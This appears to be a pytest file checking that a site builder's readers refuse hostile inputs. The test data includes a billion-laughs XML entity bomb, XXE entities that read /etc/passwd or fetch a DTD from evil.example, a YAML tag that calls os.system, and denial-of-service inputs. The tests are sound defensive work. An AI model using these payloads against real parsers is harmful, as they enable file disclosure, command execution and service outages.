"""Inputs that grow when they are read, or lead elsewhere, are refused or read in no time."""

from __future__ import annotations

import json
from contextlib import suppress

import pytest

from site_builder import extraction, readers, text
from site_builder.content import documents
from site_builder.errors import ContentError

ATOM = '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>http://arxiv.org/abs/2501.00001v1</id>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@pytest.mark.parametrize(
    "declared",
    [
        f'<!ENTITY l0 "ha">{LAUGHS}',
        '<!ENTITY l11 SYSTEM "file:///etc/passwd">',
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
    ],
)
def test_entities_of_a_document_are_never_expanded(declared: str) -> None:
    dump = f"<!DOCTYPE feed [{declared}]>{ATOM}<title>&l11;</title></entry></feed>"
    told = ""
    with suppress(ContentError):
        listing = readers.read("dump.xml", dump.encode())
        told = "".join(record.title for record in listing.records)
    assert "root:" not in told
    assert "haha" not in told


@pytest.mark.parametrize(
    "source",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
        "a: !!python/object/apply:os.system [id]\n",
        "a: !include /etc/passwd\n",
        "[" * 10_000,
        "{a: " * 10_000,
        "a: b\n---\nc: d\n",
    ],
)
def test_yaml_that_could_grow_or_run_is_refused(source: str) -> None:
    with pytest.raises(ContentError):
        documents.parse("site.yaml", source)


@pytest.mark.parametrize(
    "piece", ["A", "word ", "A$", "\\textbf{", "substantially ", "¼", "+", "("]
)
def test_a_megabyte_of_title_is_read(piece: str) -> None:
    """A hang would end in the time limit of CI; what is shown must not have grown."""
    title = (piece * 1_000_000)[:200_000]
    dump = f"Title: {title}\nAuthors: Ada Lovelace\nAbstract: We study bees.\n---\n"
    with suppress(ContentError):
        readers.read("dump.txt", dump.encode(), "key-value")
    extraction.extract(title[:20_000], f"We study bees. {title[:20_000]}")
    assert len(text.title_html(title[:20_000])) < 60 * 20_000


@pytest.mark.parametrize("escaped", [False, True])
def test_combining_marks_do_not_pile_up(escaped: bool) -> None:
    """To normalise so many in a row takes any program minutes, for they are sorted one by one."""
    piled = "\u0335\u0301" * 200_000
    dump = json.dumps(
        [{"title": f"A{piled}B, e\u0301t\u00e9", "abstract": piled}], ensure_ascii=escaped
    )
    (record,) = readers.read("dump.json", dump.encode()).records
    marks = "\u0335\u0301" * 15
    assert (record.title, record.abstract) == (f"A{marks}B, e\u0301t\u00e9", marks)
    extraction.extract(record.title, record.abstract)
